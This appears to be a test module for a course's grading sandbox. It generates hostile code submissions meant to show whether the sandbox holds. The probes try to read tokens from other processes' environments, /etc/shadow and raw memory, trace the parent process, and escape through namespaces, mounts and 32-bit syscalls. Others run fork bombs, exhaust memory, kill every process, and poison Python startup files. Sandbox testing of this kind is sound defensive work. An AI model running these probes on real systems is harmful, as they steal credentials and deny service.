"""Answers that attack the sandbox. Each raises an error that says FELL and what it got hold of, or that it held."""

from coursekit.grading.seccomp import DENIED, NEWER, _library

BEGIN = """
import ctypes, errno, glob, mmap, os, signal, socket, struct, subprocess, sys, tempfile, time, threading

CALLS = {calls}
libc = ctypes.CDLL(None, use_errno=True)

def call(name, *args):
    result = libc.syscall(ctypes.c_long(CALLS[name]), *map(ctypes.c_long, args))
    return result if result >= 0 else -ctypes.get_errno()

def tried(function):
    try:
        return function()
    except OSError as error:
        return None
"""
END = """
def {name}(*args, **kwargs):
    got = attack()
    raise ValueError(f"FELL: {{got}}"[:900] if got else "it held")
"""
ATTACKS = """
=== environment of process 1
def attack():
    texts = [tried(lambda: open(f"/proc/{{pid}}/environ", "rb").read()) or b"" for pid in range(1, 50)]
    return [text for text in texts if b"TOKEN" in text]
=== memory of process 1
def attack():
    def memory():
        first = open("/proc/1/maps").readline() or open("/proc/self/maps").readline()
        with open("/proc/1/mem", "rb") as file:
            file.seek(int(first.split("-")[0], 16))
            return file.read(8)
    return tried(memory)
=== pipes of process 1
def attack():
    def opened(path):
        file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(file, b"forged")
        return path
    paths = [f"/proc/{{pid}}/fd/{{number}}" for pid in (1, os.getppid()) for number in range(32)]
    return [path for path in paths if tried(lambda: opened(path))]
=== files and folders of process 1
def attack():
    places = [f"/proc/1/{{name}}" for name in ("root/tmp", "cwd", "fd", "map_files")]
    return [place for place in places if tried(lambda: os.listdir(place))]
=== makes itself dumpable and looks at its parent
def attack():
    libc.prctl(4, 1, 0, 0, 0)
    return tried(lambda: open(f"/proc/{{os.getppid()}}/maps").read())
=== ptrace
def attack():
    return call("ptrace", 16, os.getppid(), 0, 0) == 0 or call("ptrace", 0, 0, 0, 0) == 0
=== process_vm_readv
def attack():
    here = (ctypes.c_char * 8)()
    vector = ctypes.addressof(ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(here), 8)))
    return call("process_vm_readv", os.getppid(), vector, 1, vector, 1, 0) >= 0
=== pidfd_getfd
def attack():
    return [n for n in range(8) if call("pidfd_getfd", os.pidfd_open(os.getppid()), n, 0) >= 0]
=== stops and kills process 1
def attack():
    for number in range(1, 65):
        if number not in (32, 33):
            tried(lambda: os.kill(1, number))
    time.sleep(0.3)
    return open("/proc/1/stat").read().rpartition(")")[2].split()[0] in "TtZX"
=== limits and priority of process 1
def attack():
    import resource
    got = []
    for what in (
        lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (4, 4)),
        lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, 1, 19) or True,
        lambda: os.sched_setaffinity(1, {{0}}) or True,
        lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)) or True,
        lambda: open("/proc/1/oom_score_adj", "w").write("-1000"),
    ):
        got.append(tried(what))
    return any(got) and got
=== keyring
def attack():
    text = ctypes.create_string_buffer(b"hidden")
    kind, name = ctypes.create_string_buffer(b"user"), ctypes.create_string_buffer(b"note")
    added = [call("add_key", *map(ctypes.addressof, (kind, name, text)), 6, ring) for ring in (-2, -3, -4, -5)]
    return [one for one in added if one >= 0] or call("keyctl", 0, -4, 1) >= 0
=== System V memory
def attack():
    return [call(name, *args) for name, args in (("shmget", (77, 4096, 0o1666)), ("msgget", (77, 0o1666)),
            ("semget", (77, 1, 0o1666))) if call(name, *args) >= 0]
=== message queue
def attack():
    name = ctypes.create_string_buffer(b"left")
    return call("mq_open", ctypes.addressof(name), os.O_CREAT | os.O_RDWR, 0o666, 0) >= 0
=== new namespaces
def attack():
    flags = [0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000]
    got = [flag for flag in flags if call("unshare", flag) == 0]
    for flag in flags:
        pid = call("clone", flag | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        got += [flag] if pid > 0 else []
    return got
=== clone3
def attack():
    flags = ctypes.create_string_buffer(struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
    pid = call("clone3", ctypes.addressof(flags), 88)
    if pid == 0:
        os._exit(0)
    return pid != -errno.ENOSYS
=== mounts
def attack():
    got = [subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp"]).returncode == 0, call("fsopen", 0, 0) >= 0]
    path = ctypes.create_string_buffer(b"/tmp")
    got.append(call("mount", ctypes.addressof(path), ctypes.addressof(path), 0, 4096, 0) == 0)
    got.append(call("open_tree", -100, ctypes.addressof(path), 1) >= 0)
    got.append(call("chroot", ctypes.addressof(path)) == 0)
    return any(got) and got
=== every denied call
def attack():
    allowed = []
    for name, number in CALLS.items():
        if number >= 0 and name not in ("clone", "clone3", "reboot"):
            result = call(name, -1, -1, -1, -1, -1, -1)
            allowed += [name] if result != -errno.EPERM else []
    return allowed
=== calls of another kind
def attack():
    numbers = [0x40000000 + 39, 0x40000000 + 250]  # x32: getpid, keyctl
    got = [libc.syscall(ctypes.c_long(number)) for number in numbers] if os.uname().machine == "x86_64" else []
    return [number for number in got if number >= 0]
=== calls of 32 bits
def attack():
    if os.uname().machine != "x86_64":
        return None
    code = b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3"  # mov eax, 20 (getpid of i386); int 0x80; ret
    area = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()
    return got if got > 0 else None
=== rare sockets
def attack():
    got = []
    for family in range(64):
        for kind in (1, 2, 3, 5):
            if family not in (0, 1, 2, 10) and (made := tried(lambda: socket.socket(family, kind))):
                got.append((family, kind))
                made.close()
    return got
=== network
def attack():
    def reach(*address):
        socket.create_connection(address, 1)
        return address
    addresses = ("127.0.0.1", 22), ("1.1.1.1", 53), ("example.org", 80)
    return [address for address in addresses if tried(lambda: reach(*address))]
=== abstract sockets
def attack():
    names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
    return names
=== memory that belongs to no process
def attack():
    got = [call("memfd_create", ctypes.addressof(ctypes.create_string_buffer(b"x")), 0) >= 0]
    got.append(tried(lambda: mmap.mmap(-1, 1 << 20)))
    got.append(tried(lambda: os.open("/dev/zero", os.O_RDWR)))
    got.append(tried(lambda: open("/dev/shm/x", "w")))
    return any(got) and got
=== writes anywhere
def attack():
    got = []
    for place in {{"/", "/usr/lib", "/etc", "/dev", "/dev/shm", "/proc/sys/kernel", "/sys", "/run", "/var/tmp", "/home",
                  os.path.dirname(os.__file__), sys.prefix, *[p for p in sys.path if p], os.path.expanduser("~/..")}}:
        if tried(lambda: open(os.path.join(place, "WRITTEN"), "w")):
            got.append(place)
    return got
=== reads what is not its own
def attack():
    places = ["/root", "/home", "/etc/passwd", "/etc/shadow", "/var", "/run", "/sys", "/opt", "/mnt", "/srv", "/boot",
              "/proc/kcore", "/proc/kmsg", "/dev/mem", "/proc/1/root/etc/passwd"]
    disks = tried(lambda: [line.split()[3] for line in open("/proc/partitions").readlines()[2:]]) or []
    places += [f"/dev/{{disk}}" for disk in disks]
    own = (sys.prefix, sys.base_prefix, *sys.path)
    def read(place):
        if os.path.isdir(place):
            return [name for name in os.listdir(place) if not any(p.startswith(f"{{place}}/{{name}}") for p in own)]
        return open(place, "rb").read(10)
    return [place for place in places if tried(lambda: read(place))]
=== becomes somebody else
def attack():
    got = [what for what in ("setuid", "setgid") if getattr(libc, what)(0) == 0 and os.getuid() == 0]
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    return got + [key for key in ("CapEff", "CapPrm", "CapAmb") if int(status[key], 16)] + (
        [] if status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2" else ["no filter"])
=== a core file
def attack():
    import resource
    return resource.getrlimit(resource.RLIMIT_CORE) != (1, 1)
"""
ATTACKS = dict(part.split("\n", 1) for part in ATTACKS.split("=== ")[1:])
FORCE = """
=== forks many
def attack():
    while True:
        tried(os.fork)
=== forks many that do nothing but compute
def attack():
    for _ in range(30):
        if tried(os.fork) == 0:
            while True:
                pass
    time.sleep(100)
=== memory of many processes
def attack():
    for _ in range(20):
        if tried(os.fork) == 0:
            break
    kept = bytearray(300 << 20)
    for start in range(0, len(kept), 4096):
        kept[start] = 1
    time.sleep(100)
=== memory of many processes that start anew
def attack():
    code = "kept = b'x' * (300 << 20); import time; time.sleep(100)"
    many = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(15)]
    time.sleep(100)
=== memory of one process
def attack():
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
=== files fill the memory
def attack():
    for number in range(100):
        with open(f"/tmp/{{number}}", "wb") as file:
            tried(lambda: file.write(b"x" * (60 << 20)))
    kept = bytearray(1400 << 20)
    for start in range(0, len(kept), 4096):
        kept[start] = 1
    time.sleep(100)
=== files without end
def attack():
    number = 0
    while True:
        number += 1
        tried(lambda: open(f"/tmp/{{number}}", "w").close())
=== pipes and sockets fill up
def attack():
    kept = []
    for _ in range(20):
        os.fork() if len(kept) < 3 else None
        pair = tried(socket.socketpair)
        kept.append(pair)
        for end in pair or ():
            end.setblocking(False)
            while tried(lambda: end.send(b"x" * 65536)):
                pass
    time.sleep(100)
=== leaves a daemon
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                if number not in (9, 19, 32, 33):
                    signal.signal(number, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
=== kills everything
def attack():
    os.kill(-1, signal.SIGKILL)
=== stops everything
def attack():
    os.kill(-1, signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
=== ignores every signal and loops
def attack():
    for number in range(1, 65):
        if number not in (9, 19, 32, 33):
            signal.signal(number, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_PROF, 0)
    while True:
        pass
=== recursion in C
def attack():
    import pickle
    class Deep:
        def __reduce__(self): return Deep, (Deep(),)
    sys.setrecursionlimit(1 << 30)
    def deeper(n): return deeper(n + 1)
    deeper(0)
=== segfault
def attack():
    ctypes.string_at(0)
=== exits at once
def attack():
    os._exit(0)
=== closes everything
def attack():
    os.closerange(0, 1000)
=== sleeps
def attack():
    time.sleep(1000)
=== drips
def attack():
    while True:
        for handle in range(3, 20):
            tried(lambda: os.write(handle, b"\\0"))
        time.sleep(0.01)
=== floods its pipe
def attack():
    for handle in range(3, 20):
        for _ in range(1 << 12):
            if tried(lambda: os.write(handle, b"\\x91" * (1 << 16))) is None:
                break
=== many tiny messages
def attack():
    for handle in range(3, 20):
        for _ in range(31):
            if tried(lambda: os.write(handle, (b"\\0" * 15 + b"\\1\\x90") * 3855)) is None:
                break
    os._exit(0)
=== changes how Python starts
def attack():
    for place in ("/tmp/.local/lib/python3.11/site-packages", "/tmp/__pycache__", "/tmp/coursekit", "/tmp/torch"):
        os.makedirs(place, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "__init__.py", "x.pth"):
            open(f"{{place}}/{{name}}", "w").write("import os; os._exit(0)")
=== links in the temporary folder
def attack():
    for name in ("my_detector", "coursekit", "a", "b"):
        tried(lambda: os.symlink("/usr", f"/tmp/{{name}}"))
    os.chmod("/tmp", 0o700)
"""
FORCE = dict(part.split("\n", 1) for part in FORCE.split("=== ")[1:])


def attack(kind, name="xywh_to_xyxy"):
    """The code of an answer to the exercise `name` that attacks."""
    calls = {call: _library().seccomp_syscall_resolve_name(call.encode()) for call in (*DENIED, "clone", "clone3")}
    calls = {call: NEWER.get(call, number) if number == -1 else number for call, number in calls.items()}
    body = (ATTACKS | FORCE)[kind].replace("{{", "{").replace("}}", "}")
    return f"{BEGIN.format(calls=calls)}\n{body}{END.format(name=name)}"
